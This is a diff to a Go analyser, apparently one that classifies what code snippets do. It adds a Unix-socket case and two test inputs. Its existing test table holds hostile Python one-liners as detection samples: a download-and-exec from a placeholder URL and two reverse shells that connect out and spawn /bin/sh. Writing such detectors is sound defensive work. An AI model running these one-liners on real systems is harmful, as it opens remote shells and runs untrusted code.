@@ -40,6 +40,8 @@ func describe(r Result) string {
 			s = "fetch"
 		case spec.ConnectsTo:
 			s = "connect"
+		case spec.AsksSocket:
+			s = "socket"
 		case spec.SendsData:
 			s = "send"
 			if a.Words[0].Taint()&(spec.FromFile|spec.FromSecret) != 0 {
@@ -154,6 +156,8 @@ func TestPython(t *testing.T) {
 		{"import requests\nexec(requests.get('http://x.example').text)", "builds fetch:http://x.example downloaded ?"},
 		{"import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4242));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
 			"fetch:10.0.0.1 network ? run:/bin/sh:-i reverse-shell"},
+		{"import socket;s=socket.socket(socket.AF_UNIX);s.connect('/tmp/a'+'b')", "socket:/tmp/ab"},
+		{"import socket,sys;s=socket.socket(socket.AF_UNIX);s.connect(sys.argv[1])", "socket:…"},
 		{"import socket,pty;s=socket.create_connection(('h',1));pty.spawn('/bin/sh')", "fetch:h run:/bin/sh ? reverse-shell"},
 		// not seen through
 		{"exec(input())", "?"},
